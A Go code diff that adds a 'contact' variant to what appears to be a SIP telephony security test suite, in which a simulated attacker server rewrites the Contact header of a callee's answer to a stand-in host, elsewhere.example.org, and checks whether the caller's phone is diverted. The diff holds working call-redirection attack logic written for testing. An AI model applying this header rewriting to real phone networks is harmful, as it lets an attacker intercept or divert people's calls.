@@ -25,7 +25,7 @@ func asOverreach() Attack {
 		Variants: []Variant{variant("originate", overreachOriginate), variant("answer", overreachAnswer), variant("divert", overreachDivert),
 			variant("rewrite", overreachRewrite), variant("dialog", overreachDialog),
 			variant("redirect", overreachRedirect), variant("path", overreachPath), variant("privacy", overreachPrivacy),
-			variant("method", overreachMethod), variant("within", overreachWithin), variant("field", overreachField)},
+			variant("method", overreachMethod), variant("within", overreachWithin), variant("field", overreachField), variant("contact", overreachContact)},
 	}
 }
 
@@ -453,5 +453,44 @@ func overreachField(ctx context.Context, f *Field, o *Outcome) error {
 		o.Users = 1
 	}
 	o.Peer(asked+answered > 0, "carol reads it in %d of %d requests, dave in %d of %d answers", asked, rounds, answered, rounds)
+	return nil
+}
+
+// overreachContact: it says in carol's answer that she is elsewhere: there dave's telephone would send what he says within the call.
+func overreachContact(ctx context.Context, f *Field, o *Outcome) error {
+	dave, carol, err := f.callerAndCallee(ctx)
+	if err != nil {
+		return err
+	}
+	const elsewhere = "elsewhere.example.org"
+	s, err := f.server(ctx, f.attacker, tap, func(s *Server) {
+		s.EditAnswer = func(m *sip.Message) {
+			if m.Has(sip.HdrContact) {
+				m.SetString(sip.HdrContact, "<sip:"+elsewhere+">")
+			}
+		}
+	})
+	if err != nil {
+		return err
+	}
+	carol.answers.Store(false)
+	taking, enough := context.WithCancel(ctx)
+	defer enough()
+	rang := make(chan int, 1)
+	go func() { rang <- carol.takesCalls(taking) }()
+	answer, err := dave.Ask(ctx, dave.calls(carol.IMPU, f.token()))
+	if err != nil {
+		return err
+	}
+	if _, err := dave.acknowledges(answer, carol.IMPU); err != nil {
+		return err
+	}
+	enough()
+	o.Arrived("dave calls %d times over the platform, which changes the answer of carol's telephone; it rings %d times", len(s.Seen("INVITE")), <-rang)
+	sent := names(answer, sip.HdrContact, "sip:"+elsewhere)
+	if sent {
+		o.Users = 1
+	}
+	o.Peer(sent, "dave's telephone is told that carol is at %q", answer.Get(sip.HdrContact))
 	return nil
 }
